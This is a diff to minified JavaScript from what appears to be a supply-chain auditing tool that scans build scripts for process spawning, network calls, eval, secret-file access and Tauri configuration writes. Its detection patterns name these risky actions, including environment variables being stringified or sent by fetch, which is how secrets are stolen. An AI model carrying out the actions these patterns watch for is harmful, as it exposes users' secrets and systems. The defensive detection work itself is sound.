@@ -2513,7 +2513,18 @@ const text3=tokens[at2]?.text??"";if(isSecretPath(text3))return"reaches";if(/^(?
 +"&&tokens[at2+2]?.kind==="text"?text3+(tokens[at2+2]?.text??""):"";return/^(?:\w+:)?(?:child_process|https?|net|vm|constructor|eval|fetch|require|process|writeFileSync|execSync|exec|spawn)$/.
 test(joined9)?"reaches":void 0}var BEFORE_LISTS=/^(?:await|case|const|else|in|let|new|of|return|typeof|var|yield)$/;function isComputed(tokens,open){const before3=tokens[open-
 1];if(!(before3?.kind==="word"?!BEFORE_LISTS.test(before3.text):/^(?:close|text|regex)$/.test(before3?.kind??"")))return!1;const[inside,close]=[tokens[open+1],tokens[open+
-2]];return!((inside?.kind==="number"||inside?.kind==="text")&&close?.text==="]")}var WRITES=/^(?:writeFile|writeFileSync|appendFile|appendFileSync|outputFile|outputFileSync|outputJson|outputJsonSync|writeJson|writeJsonSync|writeJSON|writeJSONSync|copyFile|copyFileSync|cp|cpSync|copy|copySync|rename|renameSync|createWriteStream|write|write_all|create)$/,
+2]];return!((inside?.kind==="number"||inside?.kind==="text")&&close?.text==="]")}var HEADS=/^(?:if|for|while|with)$/,ENDS_LINE=/^(?:return|throw|break|continue|yield|async)$/,
+TAKES_NEXT=/^(?:return|throw|break|continue|yield|async|await|else|do|let|static|get|set|of|type|declare|namespace|module|abstract|readonly|accessor|using)$/,GOES_ON=/^(?:[([`]|\+\+|--|[-+*/%.,?<>=&|^]|\?\.|(?:instanceof|in)$)/;
+function jsCodeOf(text3,tokens){const around2=[];let closed;return tokens.flatMap((token2,at2)=>{const[before3,after2]=[tokens[at2-1],tokens[at2+1]];token2.kind===
+"open"&&around2.push({sign:token2.text,isHead:HEADS.test(before3?.text??"")});const inBrackets=around2.at(-1)?.sign==="(";if(token2.kind==="close"&&(closed=around2.
+pop()),token2.text===","&&token2.kind==="mark"&&after2?.kind==="close")return[];if(token2.text===";"&&token2.kind==="mark")return before3?.kind==="close"&&closed?.
+isHead===!0||/^(?:else|do)$/.test(before3?.text??"")||inBrackets||!endsHere(text3,before3,after2)?[";"]:[];const written7=token2.kind==="text"?JSON.stringify(token2.
+text):token2.text;return breaksLine(text3,token2,after2)?[written7,`
+`]:[written7]}).join(" ")}function endsHere(text3,before3,after2){return after2===void 0||after2.text==="}"?!0:before3?.kind==="word"&&TAKES_NEXT.test(before3.text)?
+!1:!(after2.kind==="regex"||after2.kind!=="text"&&GOES_ON.test(after2.text))&&text3[after2.start]!=="`"}function breaksLine(text3,token2,after2){return after2===
+void 0||!hasLineEnd(text3,token2,after2)?!1:token2.kind==="word"&&ENDS_LINE.test(token2.text)||after2.text==="++"||after2.text==="--"}function hasLineEnd(text3,token2,after2){
+return text3.slice(token2.end,after2.start).includes(`
+`)}var WRITES=/^(?:writeFile|writeFileSync|appendFile|appendFileSync|outputFile|outputFileSync|outputJson|outputJsonSync|writeJson|writeJsonSync|writeJSON|writeJSONSync|copyFile|copyFileSync|cp|cpSync|copy|copySync|rename|renameSync|createWriteStream|write|write_all|create)$/,
 DECIDES=/(?:^|[^\w])tauri(?:\.\w+)?\.conf\.json5?|\bTauri(?:\.\w+)?\.toml|\bcapabilities\b|\bpermissions\/|\bTAURI_CONFIG\b/,MOST_NAMES=4;function writesConfiguration(call2,text3,language){
 const[path="",to=""]=argumentsIn2(call2),isCopy=/^(?:copy|cp|rename)/.test(call2);return DECIDES.test(meaningOf(isCopy?to:path,text3,language))}function setsConfiguration(text3){
 const setting45=/\bTAURI_CONFIG["'\]]*\s*=(?!=)|cargo::?rustc-env=TAURI_CONFIG|set_var\(\s*"TAURI_CONFIG"/g;return[...text3.matchAll(setting45)].map(({index})=>index)}
@@ -2531,30 +2542,30 @@ text):usedAtOnce(tokens,at2);module2!==void 0&&uses.push({module:module2,call:ex
 token:token2}of uses)acts.push({act:call2,class:classOfCall(call2,module2),path,offset:token2.start});const addresses=acts.some(act=>act.class!=="probe")?tokens.
 filter(({kind,text:each})=>kind==="text"&&ADDRESS2.test(each)):[];return{acts:[...configuring(tokens,path,text3),...acts.filter(act=>act.class!=="probe"),...addresses.
 map(({text:each,start})=>({act:ADDRESS2.exec(each)?.[0]??each,class:"reaches",path,offset:start}))],asked:reading.asked.map(({name})=>name),started:uses.flatMap(
-({module:module2,call:call2})=>STARTS2.test(module2)?[commandIn(call2)]:[]),packages:packagesIn(tokens),code:codeOf2(tokens)}}function codeOf2(tokens){return tokens.
-flatMap(({kind,text:text3},at2)=>kind==="text"?[JSON.stringify(text3)]:text3===";"||text3===","&&tokens[at2+1]?.kind==="close"?[]:[text3]).join(" ")}function isSameJs(one3,other){
+({module:module2,call:call2})=>STARTS2.test(module2)?[commandIn(call2)]:[]),packages:packagesIn(tokens),code:jsCodeOf(text3,tokens)}}function isSameJs(one3,other){
 if(![one3,other].every(({path})=>SCRIPT.test(path)))return!1;const[before3,after2]=[one3,other].map(({text:text3})=>jsTokens(text3));return typeof before3!="obj\
-ect"||typeof after2!="object"?!1:codeOf2(before3)===codeOf2(after2)}var SCRIPT=/\.[cm]?[jt]sx?$/;function configuring(tokens,path,text3){const calls=tokens.flatMap(
-(token2,at2)=>{if(token2.kind!=="word"||!WRITES.test(token2.text)||tokens[at2+1]?.text!=="(")return[];const act=expressionAt(text3,token2.start,"js");return writesConfiguration(
-act,text3,"js")?[{act,offset:token2.start}]:[]}),words4=tokens.filter((token2,at2)=>token2.text==="TAURI_CONFIG"&&/^(?:=|\])$/.test(tokens[at2+1]?.text??"")),set=setsConfiguration(
-text3).filter(index=>words4.some(({start})=>Math.abs(start-index)<3));return[...calls,...set.map(offset=>({act:"TAURI_CONFIG",offset}))].map(({act,offset})=>({act,
-class:"reaches",configures:!0,path,offset}))}function boundNames(tokens){const bound=new Map;for(const[at2,token2]of tokens.entries()){if(token2.kind!=="text"||
-classOfModule(token2.text)!=="reaches")continue;const module2=token2.text.replace(/^node:/,"");if(!(!isAsked(tokens,at2)&&!(tokens[at2-1]?.text==="("&&PLAINLY_MODULE.
-test(token2.text))))for(let i2=at2-1;i2>=0&&i2>at2-60;i2-=1){const word2=tokens[i2];if(word2===void 0||/^(?:import|const|let|var)$/.test(word2.text)||word2.text===
-";")break;word2.kind==="word"&&!/^(?:from|require|as|await|default|type)$/.test(word2.text)&&bound.set(word2.text,module2)}}for(const[at2,token2]of tokens.entries()){
-const module2=token2.kind==="word"?bound.get(token2.text):void 0,name=module2===void 0?void 0:aliasAt(tokens,at2);module2!==void 0&&name!==void 0&&bound.set(name,
-module2)}return bound}var NEAR=8;function aliasAt(tokens,at2){const member2=tokens[at2+1]?.text==="."?at2+2:at2;if(tokens[member2+1]?.text!=="(")for(let i2=at2-
-1;i2>0&&i2>at2-NEAR;i2-=1){const text3=tokens[i2]?.text??"";if(/^(?:;|\{|\}|=>|from|import)$/.test(text3))return;if(text3==="=")return tokens[i2-1]?.kind==="wor\
-d"?tokens[i2-1]?.text:void 0}}function isUse(tokens,at2,bound){const[before3,token2,next2]=[tokens[at2-1],tokens[at2],tokens[at2+1]];return token2?.kind!=="word"||
-!bound.has(token2.text)||isMember(before3)?!1:next2?.text==="("||next2?.text==="."||next2?.text==="["||next2?.kind==="text"&&!/^import$/.test(before3?.text??"")}
-var PLAINLY_MODULE=/^(?:node:.+|child_process|worker_threads)$/,STARTS2=/^(?:child_process|cross-spawn|execa|shelljs|zx)$/;function classOfCall(act,module2){if(!STARTS2.
-test(module2))return"reaches";const command2=commandIn(act);return command2!==""&&commandLineClass(command2)==="reaches"?"reaches":/^[\w.$]*\(["`]/.test(withoutAsking(
-act))?"probe":"unknown"}function commandIn(call2){return textsIn(withoutAsking(call2))}function withoutAsking(call2){return call2.replace(/^(?:(?:require|import)\("[^"]*"\)|[\w.$)]*\("(?:node:[\w/]+|child_process|worker_threads)"\))+/,
-"")}function usedAtOnce(tokens,at2){const[token2,open,name]=[tokens[at2],tokens[at2+1],tokens[at2+2]];if(open?.text!=="("||name?.kind!=="text"||!(token2?.kind===
-"word"&&/^(?:require|import)$/.test(token2.text))&&!PLAINLY_MODULE.test(name.text)||classOfModule(name.text)!=="reaches"||name.text.endsWith(".node"))return;const after2=tokens.
-slice(at2+3,at2+6).find(({text:text3})=>text3!==")");return/^(?:[.[(]|\?\.)$/.test(after2?.text??"")?name.text.replace(/^node:/,""):void 0}function isTelling(tokens,at2,text3){
-const token2=tokens[at2];if(token2===void 0)return!0;if(WRITING.test(token2.text)||/^(?:from|import|require)$/.test(token2.text))return!1;if(token2.kind==="word"&&
-/^(?:process|env)$/.test(token2.text)){const line=text3.slice(text3.lastIndexOf(`
+ect"||typeof after2!="object"?!1:jsCodeOf(one3.text,before3)===jsCodeOf(other.text,after2)}var SCRIPT=/\.[cm]?[jt]sx?$/;function configuring(tokens,path,text3){
+const calls=tokens.flatMap((token2,at2)=>{if(token2.kind!=="word"||!WRITES.test(token2.text)||tokens[at2+1]?.text!=="(")return[];const act=expressionAt(text3,token2.
+start,"js");return writesConfiguration(act,text3,"js")?[{act,offset:token2.start}]:[]}),words4=tokens.filter((token2,at2)=>token2.text==="TAURI_CONFIG"&&/^(?:=|\])$/.
+test(tokens[at2+1]?.text??"")),set=setsConfiguration(text3).filter(index=>words4.some(({start})=>Math.abs(start-index)<3));return[...calls,...set.map(offset=>({
+act:"TAURI_CONFIG",offset}))].map(({act,offset})=>({act,class:"reaches",configures:!0,path,offset}))}function boundNames(tokens){const bound=new Map;for(const[at2,
+token2]of tokens.entries()){if(token2.kind!=="text"||classOfModule(token2.text)!=="reaches")continue;const module2=token2.text.replace(/^node:/,"");if(!(!isAsked(
+tokens,at2)&&!(tokens[at2-1]?.text==="("&&PLAINLY_MODULE.test(token2.text))))for(let i2=at2-1;i2>=0&&i2>at2-60;i2-=1){const word2=tokens[i2];if(word2===void 0||
+/^(?:import|const|let|var)$/.test(word2.text)||word2.text===";")break;word2.kind==="word"&&!/^(?:from|require|as|await|default|type)$/.test(word2.text)&&bound.set(
+word2.text,module2)}}for(const[at2,token2]of tokens.entries()){const module2=token2.kind==="word"?bound.get(token2.text):void 0,name=module2===void 0?void 0:aliasAt(
+tokens,at2);module2!==void 0&&name!==void 0&&bound.set(name,module2)}return bound}var NEAR=8;function aliasAt(tokens,at2){const member2=tokens[at2+1]?.text==="."?
+at2+2:at2;if(tokens[member2+1]?.text!=="(")for(let i2=at2-1;i2>0&&i2>at2-NEAR;i2-=1){const text3=tokens[i2]?.text??"";if(/^(?:;|\{|\}|=>|from|import)$/.test(text3))
+return;if(text3==="=")return tokens[i2-1]?.kind==="word"?tokens[i2-1]?.text:void 0}}function isUse(tokens,at2,bound){const[before3,token2,next2]=[tokens[at2-1],
+tokens[at2],tokens[at2+1]];return token2?.kind!=="word"||!bound.has(token2.text)||isMember(before3)?!1:next2?.text==="("||next2?.text==="."||next2?.text==="["||
+next2?.kind==="text"&&!/^import$/.test(before3?.text??"")}var PLAINLY_MODULE=/^(?:node:.+|child_process|worker_threads)$/,STARTS2=/^(?:child_process|cross-spawn|execa|shelljs|zx)$/;
+function classOfCall(act,module2){if(!STARTS2.test(module2))return"reaches";const command2=commandIn(act);return command2!==""&&commandLineClass(command2)==="re\
+aches"?"reaches":/^[\w.$]*\(["`]/.test(withoutAsking(act))?"probe":"unknown"}function commandIn(call2){return textsIn(withoutAsking(call2))}function withoutAsking(call2){
+return call2.replace(/^(?:(?:require|import)\("[^"]*"\)|[\w.$)]*\("(?:node:[\w/]+|child_process|worker_threads)"\))+/,"")}function usedAtOnce(tokens,at2){const[
+token2,open,name]=[tokens[at2],tokens[at2+1],tokens[at2+2]];if(open?.text!=="("||name?.kind!=="text"||!(token2?.kind==="word"&&/^(?:require|import)$/.test(token2.
+text))&&!PLAINLY_MODULE.test(name.text)||classOfModule(name.text)!=="reaches"||name.text.endsWith(".node"))return;const after2=tokens.slice(at2+3,at2+6).find(({
+text:text3})=>text3!==")");return/^(?:[.[(]|\?\.)$/.test(after2?.text??"")?name.text.replace(/^node:/,""):void 0}function isTelling(tokens,at2,text3){const token2=tokens[at2];
+if(token2===void 0)return!0;if(WRITING.test(token2.text)||/^(?:from|import|require)$/.test(token2.text))return!1;if(token2.kind==="word"&&/^(?:process|env)$/.test(
+token2.text)){const line=text3.slice(text3.lastIndexOf(`
 `,token2.start)+1,token2.start+120).split(`
 `,1)[0]??"";return/\benv(?:\.|\[["'])\w/.test(line)||/stringify|Object\.(?:entries|values)|fetch|body/.test(line)}return!0}function packagesIn(tokens){return tokens.
 flatMap(({kind,text:text3},at2)=>kind==="text"&&isAsked(tokens,at2)&&/^[@a-z]/i.test(text3)?[text3]:[])}function isAsked(tokens,at2){const[before3="",open=""]=[
@@ -2562,47 +2573,59 @@ tokens[at2-1]?.text,tokens[at2-2]?.text];return/^(?:from|import)$/.test(before3)
 STARTS3=/\b(?:subprocess\.\w+|os\.(?:system|popen|exec\w*|spawn\w*)|system|popen|shell_exec|Open3\.\w+|spawn|io\.popen|os\.execute)\s*\(/;function isComment(line,path){
 return(path.endsWith(".lua")?/^\s*--/:path.endsWith(".php")?/^\s*(?:#|\/\/)/:/^\s*#/).test(line)}function ownLines(path,text3){const acts=[];let offset=0;const lines2=text3.
 split(`
-`),plain8=lines2.map(line=>isComment(line,path)?"":line.replace(/^([^"'`]*\s)#\s.*$/,"$1"));for(const[i2,line]of lines2.entries()){const call2=callAt(i2,plain8);
-(REACHING4.test(call2)||STARTS3.test(call2)&&commandLineClass(textsOf(call2))==="reaches")&&acts.push({act:withoutLayout(call2),class:"reaches",path,offset}),offset+=
-line.length+1}return acts}var MOST_LINES=12;function callAt(start,lines2){const line=lines2[start]??"";if(!STARTS3.test(line))return line;const all=lines2.slice(
-start,start+MOST_LINES),end=all.findIndex(each=>/\)[\s;,]*$/.test(each.slice(-LONGEST_END)));return all.slice(0,end<0?1:end+1).join(`
-`)}var LONGEST_END=40;function withoutLayout(call2){return call2.replace(/\s+/g," ").replace(/ ?([()[\]]) ?/g,"$1").replace(/,(?=[)\]])/g,"").trim()}function ownLinesCode(text3){
-return text3.split(`
+`),plain8=lines2.map(line=>isComment(line,path)?"":line.replace(/^([^"'`]*\s)#\s.*$/,"$1")),callOf2=callsIn(plain8);let told3=0;for(const[i2,line]of lines2.entries()){
+const{text:call2,isWhole:isWhole3}=callOf2(i2),starts3=STARTS3.test(call2)&&(!isWhole3||commandLineClass(textsOf(call2))==="reaches");i2>=told3&&(starts3||REACHING4.
+test(call2))&&(acts.push({act:withoutLayout(call2),class:"reaches",path,offset}),told3=i2+call2.split(`
+`).length),offset+=line.length+1}return acts}var LONGEST_CALL=4e3,MOST_LOOKED_AT=1e6;function callsIn(lines2){let left2=MOST_LOOKED_AT;return start=>{const line=lines2[start]??
+"",at2=STARTS3.exec(line)?.index;if(at2===void 0)return{text:line,isWhole:!0};const call2=callAt(start,at2,lines2,Math.min(left2,LONGEST_CALL));return left2-=call2.
+text.length-line.length,call2}}var SIGNS=/"""|'''|\\[\s\S]|["'`()[\]{}]/g;function callAt(start,at2,lines2,most){let[text3,depth,quote]=["",0,""];for(let i2=start;i2<
+lines2.length&&text3.length<most;i2++){const line=lines2[i2]??"";text3+=i2===start?line:`
+${line}`;for(const[sign]of(i2===start?line.slice(at2):line).matchAll(SIGNS))quote!==""?quote=sign===quote?"":quote:/^["'`]/.test(sign)?quote=sign:sign.startsWith(
+"\\")||(depth+=/[([{]/.test(sign)?1:-1);if(quote.length===1&&(quote=""),depth<=0&&quote==="")return{text:text3,isWhole:!0}}return{text:text3,isWhole:!1}}function withoutLayout(call2){
+return call2.replace(/\s+/g," ").replace(/ ?([()[\]]) ?/g,"$1").replace(/,(?=[)\]])/g,"").trim()}function ownLinesCode(text3){return text3.split(`
 `).map(line=>line.replace(/^\s*#.*$/,"").trim()).filter(line=>line!=="").join(`
 `)}function commandsOfLines(text3){const lines2=text3.split(`
-`);return lines2.flatMap((line,i2)=>STARTS3.test(line)?[textsOf(callAt(i2,lines2))]:[])}function textsOf(call2){return textsIn(call2.replaceAll("'",'"'))}var INTERPRETER=/^(?:.*[\\/])?(?:node|nodejs|bun|deno|tsx|ts-node|python3?|py|ruby|perl|php|osascript)(?:\.exe)?$/,
-TAKES_CODE=/^(?:-[a-zA-Z]*[ecpEr]|--eval|--print)$/;function inlineCode(words4){const at2=words4.findIndex(word2=>INTERPRETER.test(word2));if(at2<0)return;const behind2=words4.
-slice(at2+1),flag=behind2.findIndex(word2=>TAKES_CODE.test(word2)||word2==="eval");return behind2.find(word2=>/^--(?:eval|print)=/.test(word2))?.replace(/^--\w+=/,
-"")??(flag<0?void 0:behind2.slice(flag+1).find(word2=>!word2.startsWith("-")))}var UNKNOWN="\uFFFF",UNKNOWN_WORDS="\uFFFE",LONGEST_SCRIPT=2e5,DEEPEST_COMMAND=12;
-function isKnown(text3){return!text3.includes(UNKNOWN)&&!text3.includes(UNKNOWN_WORDS)}function textPiece(text3){return{kind:"text",text:text3}}function plainText({
-pieces}){return pieces.every(piece=>piece.kind==="text")?pieces.map(piece=>piece.text).join(""):void 0}var TOO_DEEP2={commands:[{words:[{pieces:[textPiece("eval")],
-quoted:!1},{pieces:[textPiece(UNKNOWN_WORDS)],quoted:!1}],assignments:[],targets:[],inputs:[],groups:[],source:"eval",fedBy:null,offset:0}],functions:new Map};function onOneLine(text3){
-return text3.replace(/\\\r?\n/g," ").replace(/\s+/g," ").trim()}var TOP="\uFDD0";function absolute(path){return path===""?TOP:`${TOP}/${path}`}function resolved(folder,path){
-return path===TOP?"":path.startsWith(`${TOP}/`)?joined("",path.slice(TOP.length+1)):joined(folder,path)}function parentOf(path){const slash=path.lastIndexOf("/");
-return slash<0?".":path.slice(0,Math.max(slash,1))}var LONGEST_PATH2=4096;function pathsIn(word2,folders){if(word2===""||word2.length>LONGEST_PATH2||/\s/.test(word2)||
-!isKnown(word2))return[];if(folders===null&&resolved("",word2)!==resolved("a",word2))return[];const paths3=(folders??[""]).flatMap(folder=>resolved(folder,word2)??
-[]);return[...new Set(paths3)].filter(path=>path!=="")}var SCRIPT2=/\.[cm]?[jt]sx?$/,LINES=/\.(?:py|rb|pl|php|lua)$/,GRADLE=/\.(?:gradle|kts|kt|java|groovy)$/,ENDINGS=[
-"",".js",".mjs",".cjs",".ts",".mts",".cts","/index.js","/index.ts"];function isScript(path){return SCRIPT2.test(path)&&!/\.d\.[cm]?ts$/.test(path)}var MOST_FILES=400;
+`),callOf2=callsIn(lines2);return lines2.flatMap((line,i2)=>STARTS3.test(line)?[textsOf(callOf2(i2).text)]:[])}function textsOf(call2){return textsIn(call2.replaceAll(
+"'",'"'))}var INTERPRETER=/^(?:.*[\\/])?(?:node|nodejs|bun|deno|tsx|ts-node|python3?|py|ruby|perl|php|osascript)(?:\.exe)?$/,TAKES_CODE=/^(?:-[a-zA-Z]*[ecpEr]|--eval|--print)$/;
+function inlineCode(words4){const at2=words4.findIndex(word2=>INTERPRETER.test(word2));if(at2<0)return;const behind2=words4.slice(at2+1),flag=behind2.findIndex(
+word2=>TAKES_CODE.test(word2)||word2==="eval");return behind2.find(word2=>/^--(?:eval|print)=/.test(word2))?.replace(/^--\w+=/,"")??(flag<0?void 0:behind2.slice(
+flag+1).find(word2=>!word2.startsWith("-")))}var UNKNOWN="\uFFFF",UNKNOWN_WORDS="\uFFFE",LONGEST_SCRIPT=2e5,DEEPEST_COMMAND=12;function isKnown(text3){return!text3.
+includes(UNKNOWN)&&!text3.includes(UNKNOWN_WORDS)}function textPiece(text3){return{kind:"text",text:text3}}function plainText({pieces}){return pieces.every(piece=>piece.
+kind==="text")?pieces.map(piece=>piece.text).join(""):void 0}var TOO_DEEP2={commands:[{words:[{pieces:[textPiece("eval")],quoted:!1},{pieces:[textPiece(UNKNOWN_WORDS)],
+quoted:!1}],assignments:[],targets:[],inputs:[],groups:[],source:"eval",fedBy:null,offset:0}],functions:new Map};function onOneLine(text3){return text3.replace(
+/\\\r?\n/g," ").replace(/\s+/g," ").trim()}var TOP="\uFDD0";function absolute(path){return path===""?TOP:`${TOP}/${path}`}function resolved(folder,path){return path===
+TOP?"":path.startsWith(`${TOP}/`)?joined("",path.slice(TOP.length+1)):joined(folder,path)}function parentOf(path){const slash=path.lastIndexOf("/");return slash<
+0?".":path.slice(0,Math.max(slash,1))}var LONGEST_PATH2=4096;function pathsIn(word2,folders){if(word2===""||word2.length>LONGEST_PATH2||/\s/.test(word2)||!isKnown(
+word2))return[];if(folders===null&&resolved("",word2)!==resolved("a",word2))return[];const paths3=(folders??[""]).flatMap(folder=>resolved(folder,word2)??[]);return[
+...new Set(paths3)].filter(path=>path!=="")}var STARTS4=/^(?:.*[\\/])?(?:(?:ba|da|z|k)?sh|pwsh|powershell|cmd|source|\.|call|sudo|exec|env|time|nice|nohup|command|xvfb-run|cross-env|node|bun|tsx|ts-node|python3?|ruby|perl|--)(?:\.exe)?$|^\w+=/i;
+function startsScript(words4,i2){const before3=words4.slice(0,i2).findLast(word2=>word2==="--"||!word2.startsWith("-"));return before3===void 0?i2===0:STARTS4.test(
+before3)}function startedWords(words4){return words4.filter((_3,i2)=>startsScript(words4,i2))}var SCRIPT2=/\.[cm]?[jt]sx?$/,LINES=/\.(?:py|rb|pl|php|lua)$/,GRADLE=/\.(?:gradle|kts|kt|java|groovy)$/,
+ENDINGS=["",".js",".mjs",".cjs",".ts",".mts",".cts","/index.js","/index.ts"];function isScript(path){return SCRIPT2.test(path)&&!/\.d\.[cm]?ts$/.test(path)}var MOST_FILES=400;
 function pathsOfPrograms(ran){const asked4=ran.flatMap(({words:words4,folders})=>modulesOfCode(inlineCode(words4),folders??[""])),named13=[...new Map(ran.flatMap(
 ({words:words4,folders})=>{const where=JSON.stringify(folders);return words4.map(word2=>[`${where} ${word2}`,{word:word2,folders}])})).values()].flatMap(({word:word2,
-folders})=>/^[a-z][\w-]*$/.test(word2)?settingsOf(word2).flatMap(name=>pathsIn(name,folders)):pathsIn(word2.replace(/^--\w[\w-]*=/,""),folders));return new Set(
-[...asked4,...named13.flatMap(path=>LINES.test(path)||isScript(path)?[path]:[])])}function pathsOfShells(ran){return ran.flatMap(({words:words4,folders})=>words4.
-flatMap(word2=>SHELL.test(word2)?pathsIn(word2,folders):[]))}function modulesOfCode(code2,folders){const{asked:asked4}=code2===void 0?{asked:[]}:ownJs("",code2);
-return folders.flatMap(folder=>asked4.flatMap(name=>modulesNamed(folder,name)))}function settingsOf(program2){return["js","mjs","cjs","ts","mts","cts"].map(ending=>`${program2}\
-.config.${ending}`)}var SHELL=/\.(?:sh|bash|zsh|ps1|psm1|cmd|bat)$/;function isProgram(path){return isScript(path)||LINES.test(path)||SHELL.test(path)||!baseName(
-path).slice(1).includes(".")}function pathsAsked(file2,{root}){const folder=folderOf(file2.path),folders=[...new Set([folder,"",folderOf(root),root])],programs4=startedBy(
-file2).flatMap(line=>line.split(/\s+/).flatMap(word2=>pathsIn(word2.replace(/^["'`]|["'`]$/g,""),folders))).filter(path=>isScript(path)||LINES.test(path)||SHELL.
-test(path));return SCRIPT2.test(file2.path)?[...readJs(file2).asked.flatMap(name=>modulesNamed(folder,name)),...programs4]:[...programs4,...modulesBeside(file2)]}
-function modulesNamed(folder,name){const path=joined(folder,name);if(path===null)return[];const stem=path.replace(/\.js$/,"");return[...new Set([path,stem])].flatMap(
-each=>ENDINGS.map(ending=>`${each}${ending}`)).filter(isScript)}function startedBy(file2){return SCRIPT2.test(file2.path)?readJs(file2).started:commandsOfLines(
-file2.text)}function modulesBeside({path,text:text3}){return path.endsWith(".py")?[...text3.matchAll(/^[ \t]*(?:from|import)[ \t]+\.?(\w+)/gm)].map(([,name=""])=>name).
-flatMap(name=>joined(folderOf(path),`${name}.py`)??[]):[]}function programsFrom(paths3,files,app){const found12=new Map,todo=[...paths3];for(let path=todo.shift();path!==
-void 0&&found12.size<MOST_FILES;path=todo.shift()){const file2=files.get(path);file2===void 0||found12.has(path)||(found12.set(path,file2),todo.push(...pathsAsked(
-file2,app).filter(each=>files.has(each))))}return[...found12.values()]}var programs=new WeakMap;function readProgram(file2){const known13=programs.get(file2);if(known13!==
-void 0)return known13;const program2=programIn2(file2);return programs.set(file2,program2),program2}function programIn2(file2){const{path,text:text3}=file2;if(SCRIPT2.
-test(path)){const{acts,code:whole2,unread:unread4}=readJs(file2);return{acts,whole:whole2,...unread4!==void 0&&{unread:unread4}}}return GRADLE.test(path)?{acts:ownGradle(
-path,text3),whole:ownGradleCode(text3)}:{acts:ownLines(path,text3),whole:ownLinesCode(text3)}}var scripts=new WeakMap;function readJs(file2){const known13=scripts.
-get(file2)??ownJs(file2.path,file2.text);return scripts.set(file2,known13),known13}var BY_CLASS={probe:`
+folders})=>/^[a-z][\w-]*$/.test(word2)?settingsOf(word2).flatMap(name=>pathsIn(name,folders)):pathsIn(word2.replace(/^--\w[\w-]*=/,""),folders)),interpreted=ran.
+flatMap(each=>wordsStarted(each,INTERPRETERS)),code2=named13.filter(path=>LINES.test(path)||isScript(path));return new Set([...asked4,...code2,...interpreted])}
+var INTERPRETERS=/^(?:.*[\\/])?(?:node|bun|deno|tsx|ts-node|python\d?(?:\.\d+)?|ruby|perl|php|lua)(?:\.exe)?$/;function pathsOfShells(ran){return ran.flatMap(each=>[
+...each.words.flatMap(word2=>SHELL.test(word2)?pathsIn(word2,each.folders):[]),...wordsStarted(each,/(?:)/)])}function wordsStarted({words:words4,folders},by){return words4.
+flatMap((word2,i2)=>{const starter=words4.slice(0,i2).findLast(each=>!each.startsWith("-"))??"";return startsScript(words4,i2)&&by.test(starter)&&(i2>0||word2.includes(
+"/"))?pathsIn(word2,folders):[]})}function modulesOfCode(code2,folders){const{asked:asked4}=code2===void 0?{asked:[]}:ownJs("",code2);return folders.flatMap(folder=>asked4.
+flatMap(name=>modulesNamed(folder,name)))}function settingsOf(program2){return["js","mjs","cjs","ts","mts","cts"].map(ending=>`${program2}.config.${ending}`)}var SHELL=/\.(?:sh|bash|zsh|ps1|psm1|cmd|bat)$/;
+function isProgram(path){return isScript(path)||LINES.test(path)||SHELL.test(path)||!baseName(path).slice(1).includes(".")}function pathsAsked(file2,{root}){const folder=folderOf(
+file2.path),folders=[...new Set([folder,"",folderOf(root),root])],programs4=startedBy(file2).flatMap(line=>line.split(/\s+/).flatMap(word2=>pathsIn(word2.replace(
+/^["'`]|["'`]$/g,""),folders))).filter(path=>isScript(path)||LINES.test(path)||SHELL.test(path));return SCRIPT2.test(file2.path)?[...readJs(file2).asked.flatMap(
+name=>modulesNamed(folder,name)),...programs4]:[...programs4,...modulesBeside(file2)]}function modulesNamed(folder,name){const path=joined(folder,name);if(path===
+null)return[];const stem=path.replace(/\.js$/,"");return[...new Set([path,stem])].flatMap(each=>ENDINGS.map(ending=>`${each}${ending}`)).filter(isScript)}function startedBy(file2){
+return SCRIPT2.test(file2.path)?readJs(file2).started:commandsOfLines(file2.text)}function modulesBeside({path,text:text3}){return path.endsWith(".py")?[...text3.
+matchAll(/^[ \t]*(?:from|import)[ \t]+\.?(\w+)/gm)].map(([,name=""])=>name).flatMap(name=>joined(folderOf(path),`${name}.py`)??[]):[]}function programsFrom(paths3,files,app){
+const found12=new Map,todo=[...paths3];for(let path=todo.shift();path!==void 0&&found12.size<MOST_FILES;path=todo.shift()){const file2=files.get(path);file2===void 0||
+found12.has(path)||(found12.set(path,file2),todo.push(...pathsAsked(file2,app).filter(each=>files.has(each))))}return[...found12.values()]}var programs=new WeakMap;
+function readProgram(file2){const known13=programs.get(file2);if(known13!==void 0)return known13;const program2=programIn2(file2);return programs.set(file2,program2),
+program2}function programIn2(file2){const{path,text:text3}=file2;if(SCRIPT2.test(path)){const{acts:acts2,code:whole2,unread:unread4}=readJs(file2);return{acts:acts2,
+whole:whole2,...unread4!==void 0&&{unread:unread4}}}return GRADLE.test(path)?{acts:ownGradle(path,text3),whole:ownGradleCode(text3)}:{acts:LINES.test(path)?ownLines(
+path,text3):ofEitherKind(path,text3),whole:ownLinesCode(text3)}}function ofEitherKind(path,text3){const byLines=ownLines(path,text3),lineOf8=({offset})=>text3.lastIndexOf(
+`
+`,offset-1),told3=new Set(byLines.map(lineOf8));return[...byLines,...ownJs(path,text3).acts.filter(act=>!told3.has(lineOf8(act)))]}var scripts=new WeakMap;function readJs(file2){
+const known13=scripts.get(file2)??ownJs(file2.path,file2.text);return scripts.set(file2,known13),known13}var BY_CLASS={probe:`
     anstyle anyhow autocfg bitflags camino cfg-if cfg_aliases convert_case darling darling_core darling_macro devise devise_core
     dunce either fnv getrandom glob hashbrown heck ident_case indexmap itertools lazy_static litrs memchr once_cell percent-encoding
     proc-macro-crate proc-macro-error proc-macro-error-attr proc-macro-error2 proc-macro-hack proc-macro2
@@ -2628,13 +2651,13 @@ each,table2)??member(each,table2.replace("-","_"));if(own?.kind==="object")for(c
 get(inCode(name));found12.set(inCode(name),before3===void 0||before3===known13?known13:"unknown")}}return found12}function classOf2(name,value){return["git","pa\
 th","registry","registry-index"].some(key3=>member(value,key3)!==void 0)?"unknown":KNOWN_CRATES.get(asString(member(value,"package"))??name)??"unknown"}function inCode(name){
 return name.replaceAll("-","_")}var CODE_CLASSES=["probe","generate","native","unknown","reaches"],createHash2=(...given2)=>process.getBuiltinModule("node:crypt\
-o").createHash(...given2),MOST_LINES2=10,LONGEST_LINE=200,LONGEST_TEXT=64*1024;function buildCode(step,texts2,evidence2,{main=null,otherwise="probe"}={}){const strongest2=evidence2.
+o").createHash(...given2),MOST_LINES=10,LONGEST_LINE=200,LONGEST_TEXT=64*1024;function buildCode(step,texts2,evidence2,{main=null,otherwise="probe"}={}){const strongest2=evidence2.
